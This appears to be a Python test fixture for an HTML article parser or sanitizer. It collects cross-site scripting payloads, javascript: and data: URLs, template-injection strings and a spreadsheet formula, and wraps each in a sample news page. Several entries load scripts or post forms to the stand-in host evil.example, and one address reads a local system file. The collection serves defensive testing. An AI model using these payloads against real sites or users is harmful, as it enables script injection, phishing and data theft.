"""Articles, names and titles that try to run something: each of our own making, none may ever do so."""

SENTENCE = (
    "Jordan Vale and Chen Bo met in Oslo on March 4, 2019 to talk about tariffs between the United States and China. "
    "A second day of trade talks was held on June 11, 2019."
)

MARKUP = {
    "script": "<script>alert(document.domain)</script>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "upper-case script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=/none.png onerror=alert(1)>",
    "image without quotes or ends": "<img src=x onerror=alert(1)//",
    "picture set": "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png></picture>",
    "drawing": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "drawing with a link": "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "frame": "<iframe src='javascript:alert(1)'></iframe>",
    "frame of a document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "link": "<a href='javascript:alert(1)'>press here</a>",
    "link with a line end": "<a href='java\nscript:alert(1)'>press here</a>",
    "base": "<base href='https://evil.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "form": "<form action=https://evil.example/><button>Log in</button></form>",
    "button": "<button formaction=javascript:alert(1) form=filters>x</button>",
    "htmx": "<div hx-get='/admin/logout/' hx-trigger='load' hx-target='body'>x</div>",
    "htmx handler": "<div hx-on:htmx:load='alert(1)' data-hx-on--load='alert(1)'>x</div>",
    "style": "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "cover": "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "namespaces": "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "text area": "</textarea><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "escaped already": "&lt;img src=x onerror=alert(1)&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "template": "{{ request.user.password }}{% debug %}{# x #}${7*7}",
    "JSON": '"}</script><script>alert(1)</script>{"a":"',
}  # fmt: skip

NAMES = {
    "attribute": "\"' onmouseover=alert(1) x='",
    "markup": "<img src=x onerror=alert(1)>",
    "end of script": "</script><script>alert(1)</script>",
    "formula": '=HYPERLINK("https://evil.example","x")',
}

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://news.example/",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/hosts",
    "//evil.example/x",
    "https:evil",
    "https://",
    "http://[::1",
    'https://news.example/"><script>alert(1)</script>',
]


def page(kind):
    """An HTML article with the markup of ``kind`` in its body, head and headline."""
    bad = MARKUP[kind]
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>Talks {bad} in Oslo</title>"
        f'<meta name=author content="{bad.replace(chr(34), "&quot;")}">'
        "<link rel=canonical href='javascript:alert(1)'><meta property=og:url content='data:text/html,x'>"
        f"</head><body><article><h1>Talks {bad} in Oslo</h1><p>{SENTENCE}</p><p>Before {bad} after.</p>"
        f"<p>No. {kind}: {SENTENCE}</p></article></body></html>"
    )
